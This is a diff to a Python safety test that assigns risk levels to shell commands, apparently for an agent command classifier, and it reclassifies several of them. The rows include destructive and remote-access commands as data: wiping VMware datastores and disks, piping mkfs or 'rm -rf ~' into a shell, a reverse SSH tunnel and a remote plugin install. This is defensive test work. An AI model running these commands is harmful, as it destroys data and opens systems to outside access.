@@ -22,7 +22,7 @@ from tests.safety._levels import B, C, D, M, S, level
         ("occ user:add --role=admin eve", "bash", C),
         ("craft plugin install https://x.example/p.zip", "bash", C),
         # look-alikes: listing, a plain install of a plugin by name, a tunnel in the foreground
-        ("teamviewer --info", "bash", M),
+        ("teamviewer --info", "bash", S),  # prints its own id and state
         ("wp plugin install classic-editor", "bash", M),
         ("cloudflared tunnel run app", "bash", M),
     ],
@@ -41,7 +41,7 @@ def test_remote_access_installs_and_admin_accounts(
         ("cp rc.elv ~/.config/elvish/rc.elv", C),
         ("cp notes.md ~/Documents/", M),
         ("rm -rf /vmfs/volumes/ssd-ds-01/", B),
-        ("find /vmfs/volumes/6512ab-4c0d -name '*.vmdk' -delete", D),  # narrowed (session 8)
+        ("find /vmfs/volumes/6512ab-4c0d -name '*.vmdk' -delete", B),  # every VM's disks
         ("dd if=/dev/urandom of=/vmfs/devices/disks/naa.6000c29 bs=4M", B),
         ("partedUtil mklabel /vmfs/devices/disks/naa.6000c29 msdos", B),
         ("partedUtil getUsableSectors /vmfs/devices/disks/naa.6000c29", S),
@@ -50,11 +50,11 @@ def test_remote_access_installs_and_admin_accounts(
         ("gojq -n '\"mkfs.ext4 /dev/sdb\"' | bash", B),
         ("bun eval 'console.log(\"rm -rf ~\")' | sh", B),
         ("jq -r '.scripts.build' package.json | sh", C),
-        ("ssh ops@10.0.0.9 uptime", S),
-        ("ssh -p 2200 db 'ls -la /var/lib/postgresql'", S),
+        ("ssh ops@10.0.0.9 uptime", M),
+        ("ssh -p 2200 db 'ls -la /var/lib/postgresql'", M),
         ("ssh -R 2222:localhost:22 relay.example sleep 600", C),  # reverse tunnel (sig7)
         ("ssh db 'rm -rf /tmp/cache'", D),
-        ("kubectl exec deploy/api -- env", S),
+        ("kubectl exec deploy/api -- env", M),
         ("kubectl exec -it api-0 -- bash", M),
         ("diskutil apfs deleteSnapshot disk1s1 -uuid 1234-ABCD", D),
         ("diskutil apfs deleteVolume disk2s3", B),  # existing reading kept
